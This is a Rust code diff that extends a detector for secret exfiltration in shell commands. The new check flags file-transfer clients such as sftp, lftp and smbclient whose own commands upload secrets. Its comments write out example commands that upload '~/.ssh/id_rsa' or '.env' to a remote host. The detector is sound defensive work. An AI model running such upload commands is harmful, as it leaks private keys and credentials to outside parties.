@@ -1997,6 +1997,16 @@ impl Check for SecretExfiltration {
                     continue;
                 }
             }
+            // `sftp host <<< 'put ~/.ssh/id_rsa'`, `lftp -e 'put .env; quit' host`: the client's
+            // own commands upload a secret.
+            if let Some(s) = transfer_upload(u, p) {
+                out.push(deny(
+                    Some(i),
+                    u.span,
+                    format!("uploads the secret `{s}` with `{p}`'s own commands"),
+                ));
+                continue;
+            }
             // Standard input redirected from a secret (`openssl s_client … < ~/.ssh/id_rsa`),
             // curl's `-F 'x=<FILE'` / `-F 'x=@FILE'`.
             let from_stdin = u
@@ -2059,6 +2069,63 @@ impl Check for SecretExfiltration {
             }
         }
     }
+}
+
+/// The first secret a file-transfer client's own commands upload: its commands read from
+/// standard input when the line gives them (`sftp host <<< 'put ~/.ssh/id_rsa'`, a heredoc to
+/// `ftp`), and those of lftp's `-c`/`-e` and smbclient's `-c`. `put`, `reput`, `append` and
+/// `send` upload their first operand (the second names the remote file), `mput` every one,
+/// lftp's `mirror -R` its first (a directory); an option's value (`put -O DIR`, `-o NAME`)
+/// names the remote side.
+fn transfer_upload(u: &Unit, p: &str) -> Option<String> {
+    if !matches!(
+        p,
+        "sftp" | "ftp" | "lftp" | "smbclient" | "ncftp" | "tnftp" | "pftp" | "ftp-ssl"
+    ) {
+        return None;
+    }
+    let mut scripts: Vec<&str> = u.stdin.as_deref().into_iter().collect();
+    let words: Vec<&str> = u.args().map(text).collect();
+    for (k, w) in words.iter().enumerate() {
+        let takes = match p {
+            "lftp" => matches!(*w, "-c" | "-e"),
+            "smbclient" => matches!(*w, "-c" | "--command"),
+            _ => false,
+        };
+        if takes && let Some(v) = words.get(k + 1) {
+            scripts.push(v);
+        } else if p == "smbclient"
+            && let Some(v) = w.strip_prefix("--command=")
+        {
+            scripts.push(v);
+        }
+    }
+    for command in scripts.iter().flat_map(|s| s.split(['\n', ';'])) {
+        let mut tokens = command.split_whitespace();
+        let Some(verb) = tokens.next() else {
+            continue;
+        };
+        let verb = verb.to_ascii_lowercase();
+        let rest: Vec<&str> = tokens.collect();
+        let reverse = verb == "mirror" && rest.iter().any(|t| matches!(*t, "-R" | "--reverse"));
+        let all = verb == "mput";
+        if !(all || reverse || matches!(verb.as_str(), "put" | "reput" | "append" | "send")) {
+            continue;
+        }
+        let mut skip = false;
+        let operands = rest.iter().filter(|t| {
+            let value =
+                std::mem::replace(&mut skip, matches!(**t, "-o" | "-O" | "-P" | "--parallel"));
+            !value && !t.starts_with('-')
+        });
+        for t in operands.take(if all { usize::MAX } else { 1 }) {
+            let t = t.trim_matches(['"', '\'']);
+            if word_is_secret(t) || holds_secrets(t) || glob_may_be_secret(t) {
+                return Some(t.to_owned());
+            }
+        }
+    }
+    None
 }
 
 /// A file the line writes with a secret in it: its path as written (quotes, a leading `./` and
